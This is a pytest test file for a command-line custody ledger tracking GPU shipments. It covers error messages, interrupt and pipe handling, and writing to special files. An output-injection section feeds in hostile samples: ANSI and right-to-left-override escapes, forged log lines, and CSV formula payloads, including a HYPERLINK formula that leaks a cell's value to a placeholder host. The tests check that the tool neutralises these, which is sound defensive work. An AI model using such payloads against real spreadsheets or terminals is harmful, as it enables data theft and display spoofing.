"""Rough edges a new user hit (issue 15): each a small thing, each seen to fail before its fix."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from typer.testing import CliRunner

from commands.main import app
from tests.conftest import Ledger, make_keys

PROGRAM = [sys.executable, "-c", "from commands.main import run; run()"]


def test_keys_show_of_an_rsa_public_key_says_what_is_wrong(tmp_path: Path, runner: CliRunner) -> None:
    public = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    openssh = tmp_path / "id_rsa.pub"
    openssh.write_bytes(public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH))
    pem = tmp_path / "rsa.pem"
    pem.write_bytes(public.public_bytes(serialization.Encoding.PEM,
                                        serialization.PublicFormat.SubjectPublicKeyInfo))
    for path, says in ((openssh, "ssh-rsa"), (pem, "RSA")):
        result = runner.invoke(app, ["--db", str(tmp_path / "none.db"), "keys", "show", str(path)])
        assert result.exit_code == 2 and result.stdout == ""
        assert says in result.stderr and "d25519" in result.stderr, result.stderr
        assert "private key" not in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1


def test_keys_show_of_a_dsa_key_is_one_line_in_a_real_process(tmp_path: Path) -> None:
    """No library deprecation warning reaches the terminal beside the one line (DSA names warn in cryptography)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from cryptography.hazmat.primitives.asymmetric import dsa

        public = dsa.generate_private_key(key_size=2048).public_key()
    path = tmp_path / "dsa.pem"
    path.write_bytes(public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    done = subprocess.run([*PROGRAM, "--db", str(tmp_path / "none.db"), "keys", "show", str(path)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "DSA" in done.stderr, done.stderr


# --- a real process: Ctrl-C and closed pipes -----------------------------------------------------------


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A demo ledger large enough that `verify --workers 2` runs for a second or two."""
    directory = tmp_path_factory.mktemp("demo")
    subprocess.run([*PROGRAM, "demo", "--units", "12000", "--dir", str(directory)], check=True,
                   capture_output=True, timeout=600)
    return directory / "custody.db"


def _children(pid: int) -> list[str]:
    try:
        return Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        return []


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="reads worker processes from /proc")
@pytest.mark.parametrize("delay", [0.0, 0.05, 0.3])
def test_ctrl_c_during_verify_is_one_line_without_traceback(demo_db: Path, delay: float) -> None:
    """A terminal's Ctrl-C reaches the whole process group: workers included. Only the parent answers."""
    process = subprocess.Popen([*PROGRAM, "--db", str(demo_db), "verify", "--workers", "2"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    deadline = time.monotonic() + 60
    while not _children(process.pid) and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    assert process.poll() is None, "verify ended before its workers could be interrupted"
    time.sleep(delay)
    os.killpg(process.pid, signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    text = stderr.decode()
    assert "Traceback" not in text and "KeyboardInterrupt" not in text, text
    if process.returncode != 3:  # finished before the signal arrived: nothing to see
        assert process.returncode == 2 and text.strip().splitlines()[-1] == "custody: interrupted; nothing half-written"


# Sends the process its own SIGINT as it enters a finalizer (`__del__` of the function's module): a
# Ctrl-C arriving at that instant, which Python's own handler turned into "Exception ignored in …
# Traceback … KeyboardInterrupt" while the command carried on.
_INTERRUPTED_IN = """
import os, signal, sys
module = sys.argv.pop(1)
def interrupt(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "__del__" and frame.f_code.co_filename.endswith(module):
        sys.setprofile(None)
        os.kill(os.getpid(), signal.SIGINT)
sys.setprofile(interrupt)
from commands.main import run
run()
"""


@pytest.mark.parametrize("module", [
    "multiprocessing/connection.py",  # a pipe to a worker, dropped while verify starts its workers
    "eventsourcing/sqlite.py",  # the database, closed as the command's frames are freed after its work
])
def test_ctrl_c_in_a_finalizer_prints_no_traceback(demo_db: Path, module: str) -> None:
    done = subprocess.run([sys.executable, "-c", _INTERRUPTED_IN, module, "--db", str(demo_db), "verify",
                           "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=120)
    text = done.stderr.decode()
    assert "Traceback" not in text and "KeyboardInterrupt" not in text and "Exception ignored" not in text, text
    if done.returncode != 3:  # an interrupt the command could still take: it stops, with its one line
        assert done.returncode == 2 and text.strip().splitlines()[-1] == "custody: interrupted; nothing half-written"


_INTERRUPTED_WHILE_LOADING = """
import os, signal, sys
class Interrupt:  # Ctrl-C as the command line's modules load: while Typer is being imported
    def find_spec(self, name, path=None, target=None):
        if name == "typer":
            os.kill(os.getpid(), signal.SIGINT)
        return None
sys.meta_path.insert(0, Interrupt())
from commands.entry import run
run()
"""


def test_ctrl_c_while_the_program_loads_prints_its_one_line(demo_db: Path) -> None:
    """Before any command runs (imports take a few tenths of a second): no KeyboardInterrupt traceback."""
    done = subprocess.run([sys.executable, "-c", _INTERRUPTED_WHILE_LOADING, "--db", str(demo_db), "verify"],
                          capture_output=True, timeout=120)
    assert (done.returncode, done.stdout, done.stderr.decode()) == (
        2, b"", "custody: interrupted; nothing half-written\n")


@pytest.mark.parametrize("command, status", [
    (["report", "compliance"], 0), (["verify"], 3), (["report", "duty", "--csv"], 0),
])
def test_a_closed_pipe_is_a_quiet_exit_with_the_commands_own_status(demo_db: Path, command: list[str],
                                                                   status: int) -> None:
    """`custody report compliance | head -1`: the reader has gone; the command says nothing and keeps its status."""
    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first write: every write meets a closed pipe
    try:
        done = subprocess.run([*PROGRAM, "--db", str(demo_db), *command], stdout=write, stderr=subprocess.PIPE,
                              timeout=300)
    finally:
        os.close(write)
    text = done.stderr.decode()
    assert done.returncode == status, text
    assert "Broken pipe" not in text and "Traceback" not in text and "Exception ignored" not in text, text


# --- what the CLI says ---------------------------------------------------------------------------------


def test_trust_on_first_use_names_the_authority_by_its_key_id(sqlite_ledger: Ledger) -> None:
    """One identifier for a key everywhere: the warning shows what `keys show` shows."""
    kid = sqlite_ledger.cli("keys", "show", sqlite_ledger.pub("authority"), ok=True).stdout.split()[0]
    assert len(kid) == 64
    result = sqlite_ledger.cli("verify")
    warning = [line for line in result.stderr.splitlines() if "trusting the genesis authorities" in line]
    assert len(warning) == 1 and kid in warning[0], result.stderr


def test_record_takes_step_names_as_history_prints_them(sqlite_ledger: Ledger) -> None:
    book = sqlite_ledger
    book.record("fabricated", "tsmc", ["UN1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L", ok=True)
    book.record("shipped_to_us", "kerry", ["UN1"], "--port-of-entry", "DFW", "--waybill", "W", ok=True)
    kinds = [s["kind"] for s in json.loads(book.cli("history", "UN1", "--json", ok=True).stdout)["steps"]]
    assert kinds == ["fabricated", "shipped_to_us"]
    assert book.record("shipped__to_us", "kerry", ["UN1"], "--port-of-entry", "D", "--waybill", "W").exit_code == 2


def test_one_unit_is_one_unit(sqlite_ledger: Ledger, tmp_path: Path, runner: CliRunner) -> None:
    book = sqlite_ledger
    result = book.record("fabricated", "tsmc", ["ONE1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L",
                         ok=True)
    assert "for 1 unit at" in result.stdout
    book.full_flow(["ONE2"])
    for args in (["replay"], ["report", "duty"], ["report", "units"]):
        out = book.cli(*args, ok=True).stdout
        assert not re.search(r"\b1 (units|entries)\b", out), (args, out)
    demo = runner.invoke(app, ["demo", "--units", "1", "--dir", str(tmp_path / "demo")])
    assert demo.exit_code == 0, demo.stderr
    assert "custody demo: 1 unit through the custody steps in 1 shipment: " in demo.stdout
    assert not re.search(r"\b1 (units|entries|shipments)\b", demo.stdout), demo.stdout


def test_history_columns_stay_aligned(sqlite_ledger: Ledger, tmp_path: Path) -> None:
    """A long participant id, a time with microseconds and a long kind do not push the later columns."""
    book = sqlite_ledger
    (tmp_path / "keys").mkdir(exist_ok=True)
    make_keys(tmp_path / "keys", ["longcarrier"])
    long_id = "a-carrier-with-a-rather-long-participant-id"
    book.cli("participant", "add", long_id, "--role", "carrier", "--pubkey", str(tmp_path / "keys" / "longcarrier.pub"),
             "--country", "US", "--key", book.key("authority"), ok=True)
    book.record("fabricated", "tsmc", ["AL1"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L",
                "--at", "2026-01-01T00:00:00Z", ok=True)
    book.cli("record", "shipped-to-us", "--key", str(tmp_path / "keys" / "longcarrier"), "--serial", "AL1",
             "--port-of-entry", "DFW", "--waybill", "W", "--at", "2026-01-02T03:04:05.123456Z", ok=True)
    book.record("inspected", "uslab", ["AL1"], "--result", "pass", "--site", "Lab", "--country", "US",
                "--report", "R", ok=True)
    lines = book.cli("history", "AL1", ok=True).stdout.splitlines()[1:]
    assert len(lines) == 3
    columns = [re.match(r"  (#\d+ +)(\S+ +)(\S+ +)(by \S+ +)", line) for line in lines]
    assert all(columns), "\n".join(lines)
    for group in range(1, 5):  # every column starts where it starts on the other lines
        assert len({m.end(group) for m in columns if m}) == 1, "\n".join(lines)


def test_customer_approval_refuses_an_empty_licence_and_warns_of_likely_mistakes(sqlite_ledger: Ledger) -> None:
    book = sqlite_ledger
    authority = ("--key", book.key("authority"))
    size = json.loads(book.cli("report", "compliance", "--json", ok=True).stdout)["log_size"]
    for blank in ("", "   "):
        refused = book.cli("customer", "approve", "alibaba", "--cap", "3", "--license", blank, *authority)
        assert refused.exit_code == 2 and "licence" in refused.stderr and refused.stdout == ""
    assert json.loads(book.cli("report", "compliance", "--json", ok=True).stdout)["log_size"] == size
    unknown = book.cli("customer", "approve", "nobody", "--cap", "3", "--license", "L", *authority, ok=True)
    assert "warning: nobody is not a registered participant" in unknown.stderr
    carrier = book.cli("customer", "approve", "kerry", "--cap", "3", "--license", "L", *authority, ok=True)
    assert "warning: kerry does not hold the customer role" in carrier.stderr
    past = book.cli("customer", "approve", "alibaba", "--cap", "3", "--license", "L", "--until", "2020-01-01",
                    *authority, ok=True)
    assert "warning: the approval of alibaba ends at 2020-01-02T00:00:00Z, already past" in past.stderr
    clean = book.cli("customer", "approve", "bytedance", "--cap", "3", "--license", "L", *authority, ok=True)
    assert clean.stderr == ""


# --- output injection (issue 15 item 8) ------------------------------------------------------------------

FORGED = "Fab 18\n  #999    2026-01-01T00:00:00Z     received       by alibaba      site=forged"
ANSI = "\x1b[2J\x1b[31mL1\x1b[0m\u202egnp.exe"


def test_free_text_cannot_forge_lines_or_drive_the_terminal(sqlite_ledger: Ledger) -> None:
    book = sqlite_ledger
    book.record("fabricated", "tsmc", ["INJ1"], "--model", "H200-SXM5-141GB", "--site", FORGED, "--lot", ANSI,
                ok=True)
    text = book.cli("history", "INJ1", ok=True).stdout
    lines = text.splitlines()
    assert len(lines) == 2 and "#999" not in "".join(lines[:1]) and lines[1].count("#") == 2, text
    assert not any(ch in text for ch in "\x1b\u202e\r"), repr(text)
    assert "\\n  #999" in lines[1] and "\\x1b[2J" in lines[1] and "\\u202e" in lines[1]
    data = json.loads(book.cli("history", "INJ1", "--json", ok=True).stdout)["steps"][0]["data"]
    assert data["site"] == FORGED and data["lot"] == ANSI  # JSON stays exact
    report = book.cli("report", "compliance", ok=True).stdout  # PROHIBITED_MODEL would show the model; none here
    assert "\x1b" not in report


def test_csv_cells_never_start_a_formula(sqlite_ledger: Ledger) -> None:
    book = sqlite_ledger
    book.full_flow(["CSV1"])
    book.record("fabricated", "tsmc", ["CSV2"], "--model", "H200-SXM5-141GB", "--site", "F", "--lot", "L", ok=True)
    book.record("shipped-to-us", "kerry", ["CSV2"], "--port-of-entry", "DFW", "--waybill", "W", ok=True)
    book.record("duty-paid", "cbp", ["CSV2"], "--entry", '=HYPERLINK("http://x.example/?"&A1,"ok")',
                "--entered-value", "20000.00", "--duty", "5000.00", ok=True)
    book.record("duty-paid", "cbp", ["CSV2"], "--entry", "@SUM(1+1)\r\n-2+3", "--entered-value", "20000.00",
                "--duty", "5000.00", ok=True)
    rows = list(csv.reader(io.StringIO(book.cli("report", "duty", "--csv", ok=True).stdout)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    entries = {row[1] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")" in entries and "'@SUM(1+1)\\r\\n-2+3" in entries
    document = json.loads(book.cli("report", "duty", "--json", ok=True).stdout)
    assert {e["entry"] for e in document["entries"]} >= {'=HYPERLINK("http://x.example/?"&A1,"ok")',
                                                         "@SUM(1+1)\r\n-2+3"}


# --- output paths that are not regular files (issue 15 item 10) --------------------------------------------


def _device_like_dev_null(path: Path) -> Path:
    """A private character device with /dev/null's numbers, so that a regression cannot harm /dev/null."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, AttributeError):
        pytest.skip("cannot make a device node here")
    return path


def test_export_to_a_device_writes_to_it(sqlite_ledger: Ledger, tmp_path: Path) -> None:
    sqlite_ledger.full_flow(["DEV1"])
    device = _device_like_dev_null(tmp_path / "null")
    for args in (["export", str(device)], ["export-epcis", str(device)], ["prove", "DEV1", "--out", str(device)]):
        if args[0] == "prove":
            sqlite_ledger.cli("checkpoint", "--key", sqlite_ledger.key("operator"), ok=True)
        sqlite_ledger.cli(*args, ok=True)
        assert stat.S_ISCHR(device.stat().st_mode), f"{args[0]} replaced the device with a file"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".null.")]  # no temporary left


def test_export_to_a_pipe_streams_into_it(sqlite_ledger: Ledger, tmp_path: Path) -> None:
    sqlite_ledger.full_flow(["FIFO1"])
    regular = tmp_path / "regular.bundle"
    sqlite_ledger.cli("export", str(regular), ok=True)
    fifo = tmp_path / "bundle.fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader waits, as `custody export fifo & cat fifo`
    try:
        sqlite_ledger.cli("export", str(fifo), ok=True)
        received = b""
        while chunk := os.read(reader, 1 << 16):
            received += chunk
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert received == regular.read_bytes()


def test_checkpoint_out_through_a_link_keeps_the_link(sqlite_ledger: Ledger, tmp_path: Path) -> None:
    sqlite_ledger.full_flow(["LNK1"])
    target = tmp_path / "notes" / "checkpoint.txt"
    target.parent.mkdir()
    target.write_text("old\n")
    link = tmp_path / "latest.txt"
    link.symlink_to(target)
    sqlite_ledger.cli("checkpoint", "--key", sqlite_ledger.key("operator"), "--out", str(link), ok=True)
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert target.read_text().startswith("custody.test/h200-cn\n")


def test_checkpoint_out_to_standard_output_by_name(sqlite_ledger: Ledger, tmp_path: Path) -> None:
    """`--out /dev/stdout`: a link to the process's own output (here one made in tmp, as safe as the real one)."""
    sqlite_ledger.full_flow(["STD1"])
    stdout_link = tmp_path / "stdout"
    stdout_link.symlink_to("/proc/self/fd/1")
    done = subprocess.run([*PROGRAM, "--db", sqlite_ledger.db, "checkpoint", "--key", sqlite_ledger.key("operator"),
                           "--out", str(stdout_link)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("custody.test/h200-cn\n") and "\n\n— custody.test/h200-cn " in done.stdout
    assert stdout_link.is_symlink()
